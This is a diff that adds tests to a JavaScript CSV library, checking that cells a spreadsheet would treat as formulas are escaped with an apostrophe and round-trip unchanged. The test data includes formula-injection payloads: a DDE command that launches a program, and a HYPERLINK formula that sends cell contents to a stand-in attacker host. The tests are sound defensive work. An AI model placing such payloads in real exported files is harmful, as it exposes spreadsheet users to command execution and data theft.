@@ -32,4 +32,21 @@ describe('CSV', () => {
       ['8801', ''],
     ]);
   });
+
+  it('writes text a spreadsheet would run as a formula as inert text, and reads it back unchanged', () => {
+    const dangerous = [`=cmd|' /C calc'!A0`, '=HYPERLINK("http://evil.example/?x="&A2,"s")', '+1+1', '-2+3', '@SUM(A1)', '\tTAB', '\r=CR'];
+    const csv = toCsv(
+      ['source', 'value'],
+      dangerous.map((text) => [text, -5]),
+    );
+    const lines = parseCsv(csv).slice(1);
+    // Every dangerous cell starts with an apostrophe in the file; numbers stay numbers.
+    for (const record of csv.split('\r\n').slice(1, -1)) expect(record).toMatch(/^"?'/);
+    expect(csv).toContain(',-5\r\n');
+    expect(lines.map((r) => r.cells)).toEqual(dangerous.map((text) => [text, '-5']));
+  });
+
+  it('leaves ordinary text alone', () => {
+    expect(toCsv(['a'], [['Statistics bureau'], ["it's fine"], ['1-2']])).toBe("a\r\nStatistics bureau\r\nit's fine\r\n1-2\r\n");
+  });
 });
